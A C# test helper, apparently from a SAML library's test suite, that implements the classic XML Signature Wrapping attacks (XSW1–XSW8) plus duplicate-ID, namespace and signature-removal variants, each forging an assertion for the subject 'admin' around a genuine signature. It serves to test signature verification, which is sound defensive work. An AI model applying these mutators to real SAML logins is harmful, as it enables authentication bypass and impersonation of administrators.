using System.Xml;

namespace Daypass.Testing.Saml;

/// <summary>
/// The eight classic ways to wrap a genuinely signed part in a forged document (Somorovsky et al., "On Breaking SAML", 2012), and their relatives.
/// </summary>
public static class WrappingAttacks
{
    public const string ForgedSubject = "admin";

    /// <summary>Every mutator by its usual name. Those of the response want a signed response, the others a signed assertion.</summary>
    public static IReadOnlyDictionary<string, Action<XmlDocument>> All { get; } = new Dictionary<string, Action<XmlDocument>>
    {
        ["XSW1"] = static document => ForgeResponse(document, static (forged, signature, original) => signature.AppendChild(original)),
        ["XSW2"] = static document => ForgeResponse(document, static (forged, signature, original) => forged.InsertBefore(original, signature)),
        ["XSW3"] = static document => Root(document).InsertBefore(Forge(Assertion(document), "_forged"), Assertion(document)),
        ["XSW4"] = static document =>
        {
            var original = Assertion(document);
            var forged = Forge(original, "_forged");
            Root(document).ReplaceChild(forged, original);
            forged.AppendChild(original);
        },
        ["XSW5"] = static document => MoveSignature(document, static (root, forged, signature, original) => root.AppendChild(original)),
        ["XSW6"] = static document => MoveSignature(document, static (root, forged, signature, original) => signature.AppendChild(original)),
        ["XSW7"] = static document =>
        {
            var extensions = document.CreateElement("samlp", "Extensions", "urn:oasis:names:tc:SAML:2.0:protocol");
            extensions.AppendChild(Forge(Assertion(document), Assertion(document).GetAttribute("ID")));
            Root(document).InsertBefore(extensions, Assertion(document));
        },
        ["XSW8"] = static document => MoveSignature(document, static (root, forged, signature, original) =>
        {
            var holder = root.OwnerDocument!.CreateElement("ds", "Object", XmlSigner.Namespace);
            holder.AppendChild(original);
            signature.AppendChild(holder);
        }),
        ["DUP first"] = static document => Root(document).InsertBefore(Forge(Assertion(document), Assertion(document).GetAttribute("ID")), Assertion(document)),
        ["DUP last"] = static document => Root(document).AppendChild(Forge(Assertion(document), Assertion(document).GetAttribute("ID"))),
        ["NS"] = static document =>
        {
            var xml = Forge(Assertion(document), "_forged")
                .OuterXml.Replace("urn:oasis:names:tc:SAML:2.0:assertion", "urn:oasis:names:tc:SAML:2.0:assertion ", StringComparison.Ordinal);
            Root(document).InsertBefore(document.ImportNode(XmlSigner.Parse(xml).DocumentElement!, true), Assertion(document));
        },
        ["signature moved"] = static document =>
        {
            var signature = SignatureOf(Assertion(document))!;
            Assertion(document).RemoveChild(signature);
            Root(document).AppendChild(signature);
        },
        ["signature removed"] = static document => Assertion(document).RemoveChild(SignatureOf(Assertion(document))!),
    };

    /// <summary>A copy of an assertion for another subject, without its signature.</summary>
    public static XmlElement Forge(XmlElement assertion, string id)
    {
        var forged = (XmlElement)assertion.CloneNode(true);
        forged.SetAttribute("ID", id);
        if (SignatureOf(forged) is { } signature)
        {
            forged.RemoveChild(signature);
        }

        foreach (XmlElement name in forged.GetElementsByTagName("NameID", "urn:oasis:names:tc:SAML:2.0:assertion"))
        {
            name.InnerText = ForgedSubject;
        }

        return forged;
    }

    /// <summary>The signature directly in an element.</summary>
    public static XmlElement? SignatureOf(XmlElement element) =>
        element.ChildNodes.OfType<XmlElement>().FirstOrDefault(static child => child.LocalName == "Signature");

    private static XmlElement Root(XmlDocument document) => document.DocumentElement!;

    private static XmlElement Assertion(XmlDocument document) => TestSamlIdp.AssertionOf(document);

    private static void ForgeResponse(XmlDocument document, Action<XmlElement, XmlElement, XmlElement> place)
    {
        var root = Root(document);
        var original = (XmlElement)root.CloneNode(true);
        original.RemoveChild(SignatureOf(original)!);
        root.SetAttribute("ID", "_forgedResponse");
        root.ReplaceChild(Forge(Assertion(document), "_forged"), Assertion(document));
        place(root, SignatureOf(root)!, original);
    }

    private static void MoveSignature(XmlDocument document, Action<XmlElement, XmlElement, XmlElement, XmlElement> place)
    {
        var original = Assertion(document);
        var signature = SignatureOf(original)!;
        var forged = Forge(original, "_forged");
        original.RemoveChild(signature);
        forged.InsertAfter(signature, forged.FirstChild);
        Root(document).ReplaceChild(forged, original);
        place(Root(document), forged, signature, original);
    }
}
